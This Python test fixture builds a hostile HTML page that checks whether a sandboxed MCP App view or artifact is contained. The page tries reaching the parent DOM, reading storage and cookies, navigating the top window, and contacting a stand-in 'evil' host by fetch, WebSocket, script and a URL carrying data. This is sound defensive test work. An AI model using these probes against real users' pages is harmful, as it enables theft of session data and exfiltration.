"""A document that tries what a sandboxed document must not do, and writes what happened into its own page: an MCP
App view (journeys_apps_server.py's ``hostile_view``) and an artifact (test_journeys_artifacts.py) are tested with it.

Each attempt is an ``<li data-attempt=NAME>`` whose text is ``done: …`` or ``blocked: <error name>``: reach the page's
DOM and globals, read localStorage, cookies and IndexedDB, navigate the top window, open a popup, and reach ``evil``
(a host it was not given) by fetch, WebSocket, image and script; an image from ``good`` (the host it was given) says
whether the policy lets anything through. Its Leave button navigates its own frame to ``evil`` with data in the URL.
"""

from __future__ import annotations


def hostile_page(evil: str, good: str, *, allowed: str = "declared", bridge: str = "", started: str = "") -> str:
    """``bridge``: script put before the attempts (a view's JSON-RPC); ``started``: after them (its start)."""
    return f"""<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile</title></head>
<body><ul id="log"></ul><button id="leave">Leave</button>
<img id="{allowed}" alt="{allowed}" src="{good}/{allowed}.png">
<img id="undeclared" alt="undeclared" src="{evil}/img.png">
<script src="{evil}/script.js"></script>
<script>
{bridge}
const log = (what, outcome) => {{
  const li = document.createElement("li"); li.dataset.attempt = what; li.textContent = outcome;
  document.getElementById("log").append(li);
}};
const attempt = (what, fn) => {{
  try {{ const value = fn(); log(what, "done: " + String(value).slice(0, 200)); }}
  catch (error) {{ log(what, "blocked: " + error.name); }}
}};
attempt("parent-dom", () => {{ top.document.body.insertAdjacentHTML("beforeend", "<p id=pwned>pwned</p>");
                               return top.document.title; }});
attempt("parent-globals", () => top.orizuru ?? top.localStorage.length);
attempt("local-storage", () => JSON.stringify(localStorage));
attempt("cookies", () => document.cookie);
attempt("indexeddb", () => indexedDB.open("orizuru"));
attempt("navigate-top", () => {{ top.location.href = "{evil}/navigated"; return "asked"; }});
attempt("popup", () => window.open("{evil}/popup") === null ? "refused" : "opened");
fetch("{evil}/fetch").then(() => log("fetch", "done"), (e) => log("fetch", "blocked: " + e.name));
new Promise((resolve) => {{ const ws = new WebSocket("{evil.replace("http", "ws")}/ws");
  ws.onopen = () => resolve("done"); ws.onerror = () => resolve("blocked"); }}).then((r) => log("websocket", r));
const image = (id) => new Promise((resolve) => {{ const img = document.getElementById(id);
  if (img.complete) resolve(img.naturalWidth > 0 ? "loaded" : "blocked");
  else {{ img.onload = () => resolve("loaded"); img.onerror = () => resolve("blocked"); }} }});
image("{allowed}").then((r) => log("{allowed}-image", r));
image("undeclared").then((r) => log("undeclared-image", r));
{started}
// Last, once the test has read the rest: carry what it was shown away by navigating its own frame there.
document.getElementById("leave").onclick = () => {{ location.href = "{evil}/navigated-self?data=secret"; }};
</script></body></html>"""
